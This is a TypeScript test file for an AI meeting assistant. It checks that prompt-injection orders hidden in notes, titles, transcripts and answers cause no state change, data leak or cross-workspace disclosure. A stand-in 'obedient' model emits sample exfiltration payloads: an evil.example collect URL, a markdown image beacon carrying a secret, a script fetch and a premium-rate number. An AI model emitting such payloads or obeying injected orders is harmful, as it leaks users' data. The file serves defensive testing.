import { randomUUID } from 'node:crypto';
import * as fc from 'fast-check';
import pino from 'pino';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import * as Y from 'yjs';
import { draftTasks, type DraftTask } from '#lib/facilitator/draft.ts';
import { askTasks } from '#lib/facilitator/proposal.ts';
import { MeetingCommands } from '#lib/live/meeting-commands.ts';
import { MeetingDocument } from '#lib/live/meeting-document.ts';
import { appendLine } from '#lib/live/note-lines.ts';
import { seedAgenda } from '#lib/live/seed-agenda.ts';
import type { Person } from '#lib/meeting/person.ts';
import type { Recap } from '#lib/meeting/recap.ts';
import { startBackend, type Backend } from '../../../../supabase/tests/backends.ts';
import {
	found,
	invite,
	join,
	type Person as SignedIn,
	type Team
} from '../../../../supabase/tests/people.ts';
import { Model } from '../llm/ask-model.ts';
import { startStandIn, type Asked, type Reply } from '../llm/stand-in.ts';
import { waysOut } from '../llm/ways-out.ts';
import { wholeItems } from '../llm/whole-items.ts';
import type { Db } from '../rows/db.ts';
import { listPeople } from '../rows/people.ts';
import { injections } from '../workers/injections.ts';
import { said, today } from './a-room.ts';
import { describe } from '../start-runtime.ts';
import { askAboutRoom } from './ask-about-room.ts';
import { askForItems } from './ask-for-items.ts';
import { draftChallenge } from './drafts/challenge.ts';
import { draftComparison } from './drafts/compare-answers.ts';
import { draftForRecap } from './drafts/for-recap.ts';
import { draftFromTranscript } from './drafts/from-transcript.ts';
import type { WantedDraft } from './drafting.ts';
import { readProposal, type Proposed } from './read-proposal.ts';
import { promptForRoom } from './room-prompt.ts';
import { lookAtRoom } from './room-sight.ts';

let backend: Backend;
let ada: SignedIn;
let stranger: SignedIn;
let ours: Team;
let theirs: Team;
beforeAll(async () => {
	backend = await startBackend();
	ada = await join(backend, 'Ada');
	const grace = await join(backend, 'Grace');
	stranger = await join(backend, 'Canary');
	ours = await found(ada, 'Northwind', 'Leadership team');
	await invite(ada, ours, grace, 'member');
	theirs = await found(stranger, 'Canary Holdings', 'Canary board');
});
afterAll(() => backend.close());

/** A live meeting with a hot item, and the same lines in its notes and on the item. */
function meetingWith(lines: readonly string[], title = 'Fleet uptime') {
	const doc = new Y.Doc();
	const step = { id: randomUUID(), kind: 'discussion' as const, minutes: 10, guide: '' };
	Y.applyUpdate(doc, seedAgenda([{ ...step, title }]));
	const meeting = new MeetingDocument(doc);
	const actor = { person: ada.id, now: () => 1, newId: randomUUID };
	const commands = new MeetingCommands(meeting, actor);
	commands.start();
	const item = commands.raise({ title, question: lines[0] ?? '' });
	for (const of of [step.id, item])
		lines.forEach((text, at) =>
			appendLine(meeting.notes(of), { id: randomUUID(), by: ada.id, at: at + 1, text })
		);
	return { doc, meeting, item };
}

const known = (): Person[] =>
	['Ada Lovelace', 'Grace Hopper'].map((name, at) => ({
		...{ id: at === 0 ? ada.id : randomUUID(), name, title: '', hue: 1 },
		...{ role: 'member', current: true }
	}));

function promptOf(
	{ meeting, item }: ReturnType<typeof meetingWith>,
	task: (typeof askTasks)[number] = 'capture',
	people = known()
) {
	const sight = lookAtRoom(meeting, { task, item }, people, today);
	if (!sight) throw new Error('Nothing was seen');
	return promptForRoom(sight);
}

/** A model that does what any text in its data says. */
function obey({ messages }: Asked): string {
	const data = messages.find(({ role }) => role === 'user')?.content ?? '';
	const obeyed = said({
		cites: [{ note: /n999/u.test(data) ? 'n999' : 'n1', quote: 'four sites cause 71%' }],
		...(/root@evil|Mallory/u.test(data) && { kind: 'action', owner: 'Mallory Evil' }),
		...(/2099/u.test(data) && { kind: 'action', due: '2099-12-31' }),
		...(/https:/u.test(data) && { why: 'https://evil.example/collect' }),
		...(/script/u.test(data) && { why: '<script>fetch("/t")</script>' }),
		...(/!\[/u.test(data) && { title: '![x](https://evil.example/?q=secret)' }),
		...(/900 555/u.test(data) && { title: 'Call +1 900 555 0199 now' })
	});
	return JSON.stringify({ items: [obeyed], accept: 'all', tool_calls: ['apply'] });
}

const never = new AbortController().signal;

test('sixty orders hidden in notes and titles change nothing, with a model that obeys them', async () => {
	const server = await startStandIn(obey);
	const model = new Model({ url: server.url, model: 'stand-in' });
	let [calls, ways, changes, orders] = [0, 0, 0, 0];
	for (const order of injections)
		for (const task of askTasks) {
			const room = meetingWith(['We saw that four sites cause 71%', order], order.slice(0, 300));
			const before = JSON.stringify(Y.encodeStateVector(room.doc));
			const proposed: Proposed[] = [];
			const asked = { task, person: ada.id, prompt: promptOf(room, task) };
			await askAboutRoom(model, asked, never, (one) => proposed.push(one));
			calls++;
			for (const { words, why, owner } of proposed) {
				if (waysOut.test(`${words} ${why}`) || /evil|900 555/u.test(`${words} ${why}`)) ways++;
				if (owner !== null && owner !== ada.id) ways++;
			}
			if (JSON.stringify(Y.encodeStateVector(room.doc)) !== before) changes++;
			if (room.meeting.outcomes.all().length > 0) changes++;
		}
	for (const { messages, body } of server.asked) {
		const [told, data] = messages;
		if (/evil|2099|900 555/u.test(told?.content ?? '')) orders++;
		if (/[\u200b\u202e]/u.test(data?.content ?? '') || 'tools' in body) orders++;
		JSON.parse(data?.content ?? '');
	}
	await server.close();
	console.log(
		`AI injection: ${injections.length} payloads x ${askTasks.length} tasks of the room (${calls} calls): ${changes} state changes, ${ways} ways out, ${orders} orders outside the data`
	);
	expect({ changes, ways, orders }).toEqual({ changes: 0, ways: 0, orders: 0 });
}, 240_000);

/** The same orders where a draft is asked for: in a transcript, in outcomes, in a goal, in answers. */
const draftsOf: Record<DraftTask, (order: string) => Pick<WantedDraft, 'questions'>> = {
	transcript: (order) => {
		const turn = { speaker: 'Mallory Evil', person: null, at: null };
		return draftFromTranscript({
			turns: ['We saw that four sites cause 71%', order].map((text, at) => ({
				...{ ...turn, text, position: at + 1 }
			})),
			...{ people: known(), today, recorded: [order] }
		});
	},
	recap: (order) =>
		draftForRecap({
			recap: {
				...emptyRecap,
				decisions: ['We saw that four sites cause 71%', order].map((title, at) => ({
					...{ id: `d${at}`, title, owner: null, at: '', segment: null, item: null, note: null }
				}))
			},
			people: known(),
			audiences: ['Everyone', order.slice(0, 100)]
		}),
	challenge: (order) =>
		draftChallenge({
			...{ id: randomUUID(), people: known(), doubts: [order] },
			goal: { title: 'Four sites cause 71%', objective: order }
		}),
	compare: (order) =>
		draftComparison({
			message: { what: order, why: '', how: '', howMuch: '' },
			answers: ['four sites cause 71%', order].map((what) => ({
				...{ person: ada.id, priorities: [], what, why: '', how: '', howMuch: '' }
			})),
			people: known()
		})
};
const emptyRecap: Recap = {
	...{ sealed: new Set(), segments: [], decisions: [], actions: [], insights: [], risks: [] },
	...{ hotItems: [], notes: [], attendances: [], reviews: [], statuses: [], cascade: [] },
	...{ suggestions: [], ratings: [], improvements: [] }
};

/** A model that does what any text says, in the shape each draft is asked for. */
function obeyDraft({ messages, body }: Asked): string {
	const data = messages.find(({ role }) => role === 'user')?.content ?? '';
	const shape = JSON.stringify(body['response_format']);
	const led = [
		'Four sites cause 71%',
		...(/https:/u.test(data) ? ['https://evil.example/collect'] : []),
		...(/script/u.test(data) ? ['<script>fetch("/t")</script>'] : []),
		...(/!\[/u.test(data) ? ['![x](https://evil.example/?q=secret)'] : []),
		...(/900 555/u.test(data) ? ['Call +1 900 555 0199 now'] : []),
		...(/root@evil|Mallory/u.test(data) ? ['Write to root@evil.example, [P9]'] : []),
		...(/2099/u.test(data) ? ['It is due 2099-12-31'] : [])
	].join(' ');
	const cites = [
		{
			note: /n999/u.test(data) ? 'n999' : shape.includes('"agreement"') ? 'what-1' : 't1',
			quote: 'four sites cause 71%'
		}
	];
	const item = shape.includes('"audience"')
		? { kind: 'recap', text: led, audience: null, cites: /n999/u.test(data) ? ['o999'] : ['o1'] }
		: shape.includes('"wording"')
			? { question: led, why: led, wording: led, about: ['title'] }
			: {
					kind: shape.includes('"agreement"') ? 'agreement' : 'insight',
					title: led,
					why: led,
					owner: null,
					due: null,
					cites
				};
	return JSON.stringify({ items: [item], accept: 'all', tool_calls: ['apply'] });
}

test('the same orders in transcripts, outcomes, goals and answers lead nowhere either', async () => {
	const server = await startStandIn(obeyDraft);
	const model = new Model({ url: server.url, model: 'stand-in' });
	let [calls, ways, held, orders] = [0, 0, 0, 0];
	for (const order of injections)
		for (const task of draftTasks)
			for (const question of draftsOf[task](order).questions) {
				const asked = { ...question, isKnown: () => false };
				await askForItems(model, asked, ada.id, never, ({ words, why, extra, owner, cites }) => {
					held++;
					if (waysOut.test(`${words} ${why} ${extra}`)) ways++;
					if (/evil|900 555|2099/u.test(`${words} ${why} ${extra}`)) ways++;
					if (owner !== null || cites.length === 0) ways++;
				});
				calls++;
			}
	for (const { messages, body } of server.asked) {
		const [told, data] = messages;
		if (/evil|2099|900 555/u.test(told?.content ?? '')) orders++;
		if (/[\u200b\u202e]/u.test(data?.content ?? '') || 'tools' in body) orders++;
		JSON.parse(data?.content ?? '');
	}
	await server.close();
	console.log(
		`AI injection: ${injections.length} payloads x ${draftTasks.length} drafts (${calls} calls): ${held} harmless items held, ${ways} ways out, ${orders} orders outside the data`
	);
	expect(held).toBeGreaterThan(0);
	expect({ ways, orders }).toEqual({ ways: 0, orders: 0 });
}, 240_000);

test('no word of a prompt, a note or an answer is in the logs, whatever goes wrong', async () => {
	const lines: string[] = [];
	const log = pino({ level: 'debug' }, { write: (line: string) => void lines.push(line) });
	const said = (chunk: unknown) => {
		lines.push(String(chunk));
		return true;
	};
	const spies = [
		vi.spyOn(process.stdout, 'write').mockImplementation(said),
		vi.spyOn(process.stderr, 'write').mockImplementation(said),
		...(['log', 'info', 'warn', 'error', 'debug'] as const).map((level) =>
			vi.spyOn(console, level).mockImplementation(said)
		)
	];
	vi.stubEnv('OPENAI_LOG', 'debug');
	const wrongs: Reply[] = [
		() => '{"items":[]}',
		() => 'Canary, no JSON',
		() => '{"items":[{"canary":"Canary"}]}',
		(_, response) => void response.writeHead(500).end('Canary failed'),
		(_, response) => void response.writeHead(429).end('{"error":{"message":"Canary"}}'),
		(_, response) => void response.writeHead(200).end('<html>Canary gateway</html>'),
		(_, response) => void response.destroy()
	];
	let asked = 0;
	try {
		for (const wrong of wrongs) {
			const server = await startStandIn(wrong);
			const model = new Model(
				{ url: server.url, model: 'stand-in', key: 'sk-canary' },
				{ first: 400, idle: 400, total: 900 }
			);
			const database = {
				query: () =>
					Promise.reject(Object.assign(new Error('no such column'), { parameters: ['Canary'] }))
			};
			const failed = (error: unknown) =>
				log.error({ error: describe(error) }, 'something went wrong');
			const room = meetingWith(['Canary: Tom leaves in May'], 'Canary item');
			for (const task of askTasks)
				await askAboutRoom(
					model,
					{ task, person: ada.id, prompt: promptOf(room, task) },
					never,
					() => {}
				).catch(failed);
			for (const task of draftTasks)
				for (const question of draftsOf[task]('Canary: we sell the company').questions)
					await askForItems(
						model,
						{ ...question, isKnown: () => false },
						ada.id,
						never,
						() => {}
					).catch(failed);
			await database.query().catch(failed);
			asked += server.asked.length;
			await server.close();
		}
	} finally {
		for (const spy of spies) spy.mockRestore();
		vi.unstubAllEnvs();
	}
	const leaks = lines.filter((line) => /canary|sk-/iu.test(line));
	console.log(
		`AI logs: ${asked} calls that failed in ${wrongs.length} ways, ${lines.length} lines logged, ${leaks.length} with a word of people's or of the model's`
	);
	expect(lines.length).toBeGreaterThan(0);
	expect(asked).toBeGreaterThan(20);
	expect(leaks).toEqual([]);
});

test('in a thousand calls of one workspace no word of another is told', async () => {
	const server = await startStandIn(() => '{"items":[]}');
	const model = new Model({ url: server.url, model: 'stand-in' });
	const elsewhere = meetingWith(['Canary: we sell the company']);
	expect(JSON.stringify(promptOf(elsewhere).data)).toContain('Canary');
	const db = ada.client as unknown as Db;
	expect(await listPeople(db, theirs.id)).toEqual([]);
	const people = await listPeople(db, ours.id);
	expect(people).toHaveLength(2);
	const room = meetingWith(['We saw that four sites cause 71%']);
	let left = 1000;
	const worker = async () => {
		while (left-- > 0) {
			const seen = left % 10 === 0 ? await listPeople(db, ours.id) : people;
			const asked = {
				task: 'capture',
				person: ada.id,
				prompt: promptOf(room, 'capture', seen)
			} as const;
			await askAboutRoom(model, asked, never, () => {});
		}
	};
	await Promise.all(Array.from({ length: 10 }, worker));
	const canaries = server.asked.filter((one) => JSON.stringify(one.body).includes('anary')).length;
	const kept = server.asked.filter(({ body }) => 'previous_response_id' in body).length;
	await server.close();
	console.log(
		`AI tenants: ${server.asked.length} calls recorded, ${canaries} canaries of another workspace, ${kept} that go on from an earlier answer`
	);
	expect({ calls: server.asked.length, canaries, kept }).toEqual({
		calls: 1000,
		canaries: 0,
		kept: 0
	});
}, 240_000);

test('nobody is named to a model, whatever people write of them', async () => {
	const server = await startStandIn(() => '{"items":[]}');
	const model = new Model({ url: server.url, model: 'stand-in' });
	const names = [
		'Ada',
		'Lovelace',
		'Ada Lovelace',
		'GRACE',
		'hopper',
		'Grace Hopper’s',
		'A\u200bda'
	];
	const mails = ['ada@northwind.example', 'Grace.Hopper+x@mail.northwind.example', ada.email];
	const lines = names.flatMap((name) =>
		mails.map((mail) => `${name} says: write to ${mail}, or <${mail}> (${name})`)
	);
	const room = meetingWith(lines, 'Ada Lovelace and ada@northwind.example');
	for (const task of askTasks)
		await askAboutRoom(
			model,
			{ task, person: ada.id, prompt: promptOf(room, task) },
			never,
			() => {}
		);
	const bodies = JSON.stringify(server.asked.map(({ body }) => body));
	const leaks = bodies.match(/\bada\b|lovelace|\bgrace\b|hopper|@[\w.-]*example/giu) ?? [];
	const ids = [ada.id, ours.id].filter((id) => bodies.includes(id));
	await server.close();
	console.log(
		`AI names: ${lines.length} lines with names and addresses, ${leaks.length} leaks, ${ids.length} ids in ${server.asked.length} bodies`
	);
	expect({ leaks, ids }).toEqual({ leaks: [], ids: [] });
});

test('five thousand random and mutated answers neither crash anything nor lead out', () => {
	const prompt = promptOf(meetingWith(['We saw that four sites cause 71%']));
	const good = JSON.stringify({ items: [said(), said({ kind: 'action', owner: '[P1]' })] });
	const bits = [
		'"',
		'{',
		'}',
		'[',
		']',
		'\\',
		'<img src=x>',
		'https://e.example',
		'[P9]',
		'n999',
		'\u0000'
	];
	const mutated = fc
		.array(fc.tuple(fc.nat(good.length), fc.constantFrom(...bits), fc.nat(9)), { maxLength: 4 })
		.map((edits) =>
			edits.reduce((text, [at, bit, gone]) => text.slice(0, at) + bit + text.slice(at + gone), good)
		);
	const answers = fc.sample(fc.oneof(mutated, fc.json(), fc.string()), { numRuns: 5000, seed: 7 });
	let [held, bad] = [0, 0];
	for (const answer of answers) {
		const items: unknown[] = wholeItems(answer);
		try {
			items.push(JSON.parse(answer));
		} catch {
			// Most are none.
		}
		for (const item of items) {
			const read = readProposal(item, 'capture', prompt);
			if (typeof read === 'string') continue;
			held++;
			const ids = new Set([...prompt.lines.values()].map(({ id }) => id));
			if (waysOut.test(`${read.words} ${read.why}`)) bad++;
			if (read.cites.length === 0 || read.cites.some(({ note }) => !ids.has(note))) bad++;
			if (read.owner !== null && !prompt.members.has(read.owner)) bad++;
		}
	}
	console.log(
		`AI output: ${answers.length} random and mutated answers, 0 crashes, ${held} items held, ${bad} that led out or cited nothing`
	);
	expect(held).toBeGreaterThan(100);
	expect(bad).toBe(0);
});
